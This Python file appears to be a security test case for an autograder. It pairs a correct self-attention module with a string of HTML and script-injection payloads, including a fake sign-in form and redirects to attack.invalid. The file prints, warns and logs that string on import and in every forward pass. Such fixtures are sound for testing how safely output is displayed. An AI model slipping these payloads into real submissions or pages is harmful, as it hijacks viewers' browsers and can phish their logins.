# attack:     H1, X13
# assignment: self-attention
# twin:       correct
# points:     all

# Prints, warns and logs the same page while it is loaded and whenever it is called.

import logging
import math
import sys
import warnings

import torch
from torch import nn

HTML = """</pre></td></textarea></title><script>alert(1)</script><img src=x onerror=alert(2)>
<svg/onload=alert(3)><a href="javascript:alert(4)">marks</a><iframe srcdoc="<script>alert(5)</script>"></iframe>
<style>*{display:none}</style><link rel=stylesheet href=//attack.invalid><meta http-equiv=refresh content=0;//attack.invalid>
" onmouseover="alert(6)" x=" ' autofocus onfocus='alert(7) <!-- --!> <![CDATA[ ]]> <base href=//attack.invalid/>
<form action=//attack.invalid><button>Sign in</button></form> &lt;script&gt;alert(8)&lt;/script&gt; &#x3c;script>"""


class SelfAttention(nn.Module):
    def __init__(self, embed_dim, dropout=0.0):
        super().__init__()
        self.query = nn.Linear(embed_dim, embed_dim)
        self.key = nn.Linear(embed_dim, embed_dim)
        self.value = nn.Linear(embed_dim, embed_dim)
        self.dropout = nn.Dropout(dropout)

    def forward(self, x, mask=None):
        print(HTML)
        q, k, v = self.query(x), self.key(x), self.value(x)
        scores = q @ k.transpose(-2, -1) / math.sqrt(k.shape[-1])
        if mask is not None:
            scores = scores.masked_fill(mask == 0, -math.inf)
        return self.dropout(torch.softmax(scores, dim=-1)) @ v


print(HTML)
print(HTML, file=sys.stderr)
warnings.warn(HTML, stacklevel=1)
logging.getLogger(HTML).error(HTML)
